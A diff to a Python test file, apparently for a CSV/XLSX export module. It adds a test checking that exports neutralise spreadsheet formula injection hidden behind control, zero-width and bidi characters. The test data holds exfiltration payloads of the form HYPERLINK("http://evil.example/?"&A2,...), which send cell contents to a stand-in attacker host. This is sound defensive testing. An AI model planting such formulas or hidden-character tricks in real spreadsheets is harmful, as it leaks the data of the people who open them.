@@ -531,6 +531,44 @@ def test_write_csv_neutralises_formula_injection():
     assert back["name"] == "=1+1" and back["gender"] == "-2"
 
 
+# Every character that can hide in front of a formula: C0 controls, DEL, C1 controls, zero-width space/non-joiner/
+# joiner, word joiner, BOM, soft hyphen, LRM/RLM/ALM, bidi embeddings/overrides/isolates, NBSP, ideographic space,
+# the other Unicode spaces, and plain space, tab, LF and CR.
+HIDERS = ([chr(c) for c in range(0x00, 0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
+          + ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200f", "\u061c",
+             "\u180e", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
+             "\u2069", "\u00a0", "\u3000", "\u2002", "\u2003", "\u2009", "\u202f", "\u205f", " "])
+# All but the visible white space (kept: it may be meant) are removed from exported text.
+STRIPPED = [h for h in HIDERS if h not in "\t\n\r \u00a0\u3000\u2002\u2003\u2009\u202f\u205f"]
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
+PAYLOADS = [h + t + 'HYPERLINK("http://evil.example/?"&A2,"x")' for h in HIDERS for t in TRIGGERS] + [
+    h1 + h2 + "=1+1" for h1 in ("\u0001", "\u200b", "\ufeff", "\u00a0") for h2 in ("\u202e", "\u3000", "\x7f")]
+
+
+def test_exports_neutralise_formulas_behind_every_control_and_invisible_character():
+    # Strip first, neutralise last: "\u0001=HYPERLINK(...)" used to be neutralised (it did not start with "=")
+    # and then lose its "\u0001" in XLSX, leaving a live formula next to unmasked ID numbers.
+    rows = [{"name": p, "city": p, "organization": p, "specialties": [p, "y"]} for p in PAYLOADS]
+    keys = ["name", "city", "organization", "specialties"]
+    read = list(csv.reader(io.StringIO(tabular.write_csv(keys, rows, "zh")[3:].decode(), newline="")))[1:]
+    ws = load_workbook(io.BytesIO(tabular.write_xlsx(keys, rows, "zh"))).active
+    assert len(read) == len(PAYLOADS) == ws.max_row - 1
+    for i, payload in enumerate(PAYLOADS):
+        for j in range(len(keys)):
+            cell = ws.cell(i + 2, j + 1)
+            for where, text in (("csv", read[i][j]), ("xlsx", cell.value)):
+                assert isinstance(text, str) and text.startswith("'"), (where, payload, text)
+                assert not any(ch in text for ch in STRIPPED), (where, payload, text)
+                assert "HYPERLINK(" in text or "=1+1" in text  # the content itself is kept, as text
+            assert cell.data_type == "s", (payload, cell.data_type)  # written as text, never parsed as a formula
+    # Harmless text keeps its characters (line breaks inside a cell stay) and gets no apostrophe.
+    assert tabular.neutralize_cell("南京\n江宁") == "南京\n江宁" and tabular.neutralize_cell("a=1") == "a=1"
+    # ... and an export still reads back as what was stored.
+    header = ",".join(ZH_HEADER).encode()
+    back = read_table(b"\xef\xbb\xbf" + header + b"\r\n'\xc2\xa0=1+1,' -2\r\n", "x.csv").rows[0].values
+    assert back["name"] == "=1+1" and back["gender"] == "-2"
+
+
 def test_write_csv_accepts_rows_and_extra_headers():
     rows = [tabular.Row(2, {"name": "张三"}), {"name": "李四", "id": 7}]
     data = tabular.write_csv(["id", "name"], rows, "en", headers={"id": ("编号", "No.")})
